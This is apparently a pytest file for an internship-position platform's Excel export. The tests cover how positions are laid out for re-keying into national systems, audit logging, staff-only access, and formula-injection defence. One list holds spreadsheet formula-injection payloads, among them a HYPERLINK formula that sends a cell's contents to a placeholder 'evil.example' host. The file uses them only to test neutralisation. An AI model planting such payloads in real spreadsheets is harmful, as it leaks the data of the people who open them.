"""The sheet for re-keying positions into 就业见习系统 and 智慧科协见习计划系统: one row per position
with its unit's fields repeated, guessed column names marked, formulas kept inert, and the office's
downloads of one unit or of the programme year, audited and refused to everyone else."""

import datetime as dt
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from form_worker.accounts.models import AuditEntry
from form_worker.catalogue.positions import Positions
from form_worker.office import national
from form_worker.submissions.models import Submission
from site_builder.model.catalogue import Catalogue, PositionEntry, UnitEntry
from tests.conftest import TODAY
from tests.form_worker.conftest import OPEN_POSITION, StaffClient
from tests.helpers.parties import make_parties, party

UNIT = "shili-youth-scitech-society"
FILLED = f"{UNIT}/international-exchange-assistant"  # names its own contact
REGISTRATION = "https://kjxjh-kc.cast.org.cn"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1", "-2+3", "@SUM(A1:A2)"]
# The columns a clerk keys in, in the order the sheet gives them, and this platform's own.
KEYED = [
    "见习单位名称", "统一社会信用代码", "单位类别", "所在区县", "单位地址", "就业见习单位认定状态",
    "认定部门", "认定日期", "单位联系人", "联系电话", "电子邮箱", "岗位名称", "岗位类型", "岗位性质",
    "招募人数", "岗位职责", "见习收获", "专业要求", "学历要求", "工作地点（区县）", "工作地点（详细地址）",
    "基本生活费（元/月）", "见习开始日期", "见习结束日期", "报名截止日期", "见习导师", "岗位联系人",
    "岗位联系电话", "岗位联系邮箱", "产业领域标签",
]  # fmt: skip
OURS = ["序号", "本平台岗位编号", "岗位状态", "发布日期", "岗位页面", "示例数据"]


@pytest.fixture
def positions(app) -> Positions:
    return app.extensions["jianxi.positions"].get()


def sheet_of(data: bytes, name: str = national.SHEET):
    return load_workbook(io.BytesIO(data))[name]


def records(sheet) -> list[dict[str, object]]:
    """The rows below the header, each by its column's header."""
    headers = [c.value for c in sheet[1]]
    return [dict(zip(headers, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)]


def unit_workbook(positions: Positions, slug: str = UNIT) -> bytes:
    return national.workbook(
        positions,
        national.unit_entries(positions, slug),
        "示例单位",
        today=TODAY,
        catalogue_url="https://jianxi.example.cn/",
        registration_url=REGISTRATION,
    )


# ---------------------------------------------------------------- the workbook


def test_one_row_per_position_with_the_units_fields_repeated(positions: Positions) -> None:
    sheet = sheet_of(unit_workbook(positions))
    assert [c.value for c in sheet[1]] == ["序号", *KEYED, *OURS[1:]]
    rows = records(sheet)
    unit = positions.catalogue.units[UNIT].unit
    mine = sorted(e.id for e in positions.by_id.values() if e.unit_slug == UNIT)
    assert [r["本平台岗位编号"] for r in rows] == mine and len(mine) == 4
    assert [r["序号"] for r in rows] == [1, 2, 3, 4]
    for row in rows:
        assert (row["见习单位名称"], row["统一社会信用代码"]) == (unit.name, unit.credit_code)
        assert (row["单位联系人"], row["联系电话"], row["所在区县"]) == (
            unit.contact.name,
            unit.contact.phone,
            unit.district,
        )
        assert row["就业见习单位认定状态"] == "已认定" and row["认定日期"] == dt.datetime(2026, 4, 15)
        assert row["示例数据"] == "是"


def test_a_positions_fields_as_the_collection_form_writes_them(positions: Positions) -> None:
    rows = {r["本平台岗位编号"]: r for r in records(sheet_of(unit_workbook(positions)))}
    conference = rows[OPEN_POSITION]
    assert conference["岗位名称"] == "学术会议组织助理（示例）"
    assert (conference["岗位类型"], conference["岗位性质"], conference["招募人数"]) == (
        "学术助理",
        "科技见习",
        4,
    )
    assert conference["见习导师"] == "李示例（学术部部长、副研究员）；王示例（学术部主管）"
    assert conference["专业要求"] == "管理学类、新闻传播学类、理工科各专业"
    assert (conference["学历要求"], conference["基本生活费（元/月）"]) == ("本科", 3000)
    assert conference["工作地点（区县）"] == "渝中区"
    assert conference["见习开始日期"] == dt.datetime(2027, 7, 1)
    assert conference["报名截止日期"] == dt.datetime(2027, 5, 31)
    assert conference["产业领域标签"] == "数智科技"
    assert conference["岗位状态"] == "招募中"
    assert conference["岗位页面"] == f"https://jianxi.example.cn/positions/{OPEN_POSITION}/"
    # Without a contact of its own, a position shows its unit's; with one, its own.
    assert (conference["岗位联系人"], conference["岗位联系邮箱"]) == ("张示例", "society-office@example.com")
    exchange = rows[FILLED]
    assert (exchange["岗位联系人"], exchange["岗位联系电话"]) == ("陈示例", "13800000011")
    assert exchange["岗位状态"] == "已招满"


def test_guessed_column_names_are_marked(positions: Positions) -> None:
    workbook = load_workbook(io.BytesIO(unit_workbook(positions)))
    assert workbook.sheetnames == [national.SHEET, "说明", "列说明"]
    header = {c.value: c for c in workbook[national.SHEET][1]}
    for name in KEYED:
        if name == "统一社会信用代码":  # the name GB 32100-2015 gives it
            assert header[name].comment is None
        else:
            assert header[name].comment.text == "列名为推测，请以系统为准", name
            assert header[name].fill.fgColor.rgb == "FFFFF2CC", name
    for name in OURS:
        assert header[name].comment.text == "本平台信息，供核对，无需录入", name
    sources = {r[0]: r[1] for r in workbook["列说明"].iter_rows(min_row=2, values_only=True)}
    assert sources["统一社会信用代码"] == "国家标准名称"
    assert {name for name, source in sources.items() if source.startswith("推测")} == set(KEYED) - {
        "统一社会信用代码"
    }
    notes = dict(workbook["说明"].iter_rows(min_row=2, values_only=True))
    assert "不向这两个系统报送任何数据" in notes["用途"]
    assert notes["范围"].startswith("示例单位，共 4 个岗位；导出日期 2026-11-27")
    assert notes["智慧科协见习计划系统"].startswith(REGISTRATION)
    assert "023-63002289" in notes["咨询"]


def test_a_column_whose_name_is_known_loses_the_mark(monkeypatch, positions: Positions) -> None:
    """Changing a column's source to "system" is all it takes once a system's name is learned."""
    known = national.NationalColumn("岗位名称", lambda r: r.entry.position.title, "system", "岗位名称")
    monkeypatch.setattr(national, "NATIONAL_COLUMNS", (national.NATIONAL_COLUMNS[0], known))
    workbook = load_workbook(io.BytesIO(unit_workbook(positions)))
    title = workbook[national.SHEET].cell(1, 2)
    assert (title.value, title.comment) == ("岗位名称", None)
    first = national.unit_entries(positions, UNIT)[0]
    assert workbook[national.SHEET].cell(2, 2).value == first.position.title
    assert list(workbook["列说明"].iter_rows(min_row=3, values_only=True)) == [
        ("岗位名称", "系统中的列名", "岗位名称", None)
    ]


def test_text_that_looks_like_a_formula_stays_text(positions: Positions) -> None:
    entry = positions.by_id[OPEN_POSITION]
    unit = positions.catalogue.units[UNIT]
    mentor = entry.position.mentors[0].model_copy(update={"name": HOSTILE[3]})
    hostile = [
        PositionEntry(
            f"{UNIT}/hostile-{n}",
            f"hostile-{n}",
            UNIT,
            entry.path,
            entry.position.model_copy(update={"title": text, "majors": [text], "mentors": [mentor]}),
        )
        for n, text in enumerate(HOSTILE)
    ]
    hostile_unit = UnitEntry(UNIT, unit.path, unit.unit.model_copy(update={"address": HOSTILE[1]}))
    catalogue = Catalogue({UNIT: hostile_unit}, hostile)
    data = unit_workbook(Positions(catalogue, {e.id: e for e in hostile}))

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(r"<f[ >]", xml) for xml in sheets)
    sheet = sheet_of(data)
    headers = [c.value for c in sheet[1]]
    for row, text in enumerate(HOSTILE, start=2):
        for name, value in (("岗位名称", text), ("专业要求", text), ("单位地址", "+1")):
            cell = sheet.cell(row, headers.index(name) + 1)
            assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True), name
        mentors = sheet.cell(row, headers.index("见习导师") + 1)
        assert mentors.value.startswith("@SUM") and mentors.quotePrefix


def test_the_programme_year_is_the_year_positions_were_published(positions: Positions) -> None:
    every = sorted(positions.by_id)
    assert [e.id for e in national.year_entries(positions, 2026)] == every
    assert national.year_entries(positions, 2025) == []
    earlier = positions.by_id[OPEN_POSITION]
    moved = PositionEntry(
        earlier.id,
        earlier.slug,
        earlier.unit_slug,
        earlier.path,
        earlier.position.model_copy(update={"published": dt.date(2025, 12, 31)}),
    )
    mixed = Positions(positions.catalogue, {**positions.by_id, moved.id: moved})
    assert [e.id for e in national.year_entries(mixed, 2025)] == [OPEN_POSITION]
    assert OPEN_POSITION not in [e.id for e in national.year_entries(mixed, 2026)]


# ---------------------------------------------------------------- the office's downloads


def assert_xlsx(response, name: str) -> None:
    assert response.status_code == 200, response.text
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    disposition = response.headers["Content-Disposition"]
    assert "attachment" in disposition and re.search(rf"filename\*=UTF-8''{name}", disposition)


def audited(session) -> list[tuple[str, str, str]]:
    query = select(AuditEntry).where(AuditEntry.action == "export_national").order_by(AuditEntry.id)
    return [(e.actor, e.target, e.detail) for e in session.scalars(query)]


@pytest.mark.backend
def test_one_units_export_is_audited(reviewer: StaffClient, session, positions: Positions) -> None:
    response = reviewer.post(f"/staff/exports/national/{UNIT}")
    assert_xlsx(response, ".*20261127\\.xlsx")
    rows = records(sheet_of(response.data))
    assert {r["本平台岗位编号"] for r in rows} == {e.id for e in national.unit_entries(positions, UNIT)}
    assert {r["见习单位名称"] for r in rows} == {"重庆市示例青年科技工作者学会（示例）"}
    assert [(actor, target) for actor, target, _ in audited(session)] == [("reviewer", f"unit:{UNIT}")]
    assert '"positions": 4' in audited(session)[0][2]


@pytest.mark.backend
def test_every_unit_of_the_programme_year(admin: StaffClient, session, positions: Positions) -> None:
    response = admin.post("/staff/exports/national", {"national-unit": ""})
    assert_xlsx(response, ".*2026.*\\.xlsx")
    rows = records(sheet_of(response.data))
    assert [r["本平台岗位编号"] for r in rows] == sorted(positions.by_id)
    assert len({r["见习单位名称"] for r in rows}) == len(positions.catalogue.units)
    assert [(a, t) for a, t, _ in audited(session)] == [("admin", "year:2026")]
    assert "导出系统录入对照表" in admin.get("/staff/audit?action=export_national").text


def test_the_exports_page_offers_every_unit_or_one(reviewer: StaffClient, positions: Positions) -> None:
    page = reviewer.get("/staff/exports").text
    assert 'action="/staff/exports/national"' in page
    assert "全部单位（2026 年发布的岗位）" in page
    for slug in positions.catalogue.units:
        assert f'value="{slug}"' in page
    chosen = reviewer.post("/staff/exports/national", {"national-unit": UNIT})
    assert_xlsx(chosen, ".*\\.xlsx")
    assert len(records(sheet_of(chosen.data))) == 4


def test_an_unknown_unit(reviewer: StaffClient, session) -> None:
    missing = reviewer.post("/staff/exports/national/no-such-unit")
    assert missing.status_code == 404
    refused = reviewer.post("/staff/exports/national", {"national-unit": "no-such-unit"})
    assert refused.status_code == 422
    assert re.search(r'<p class="error" id="national-unit-error">请选择要导出的单位</p>', refused.text)
    assert audited(session) == []


def test_universities_and_units_are_refused(app, session) -> None:
    make_parties(app, session)
    for role in ("cqu", "unit_a"):
        client = party(app, role)
        for path in (f"/staff/exports/national/{UNIT}", "/staff/exports/national"):
            response = client.post(path, {"national-unit": ""})
            assert response.status_code == 403 and "没有权限" in response.text, (role, path)
    assert audited(session) == []


def submission_of(session, positions: Positions, unit_slug: str, reference: str) -> Submission:
    """A unit's submission as /submit records it, into unit_slug (a new unit's folder, or UNIT's)."""
    unit = positions.catalogue.units[UNIT].unit
    item = Submission(
        reference=reference,
        state="submitted",
        source="form",
        unit_slug=unit_slug,
        is_edit=unit_slug == UNIT,
        unit_data=unit.model_dump(mode="json", exclude_none=True),
        positions_data=[positions.by_id[OPEN_POSITION].position.model_dump(mode="json", exclude_none=True)],
        token=f"token-{unit_slug}",
    )
    session.add(item)
    session.commit()
    return item


def test_a_units_submission_page_links_its_sheet(
    reviewer: StaffClient, session, positions: Positions
) -> None:
    listed = submission_of(session, positions, UNIT, "DW2026-000001-TEST")
    page = reviewer.get(f"/staff/submissions/{listed.id}").text
    assert f'action="/staff/exports/national/{UNIT}"' in page
    new = submission_of(session, positions, "unit-not-yet-published", "DW2026-000002-TEST")
    assert 'action="/staff/exports/national/' not in reviewer.get(f"/staff/submissions/{new.id}").text
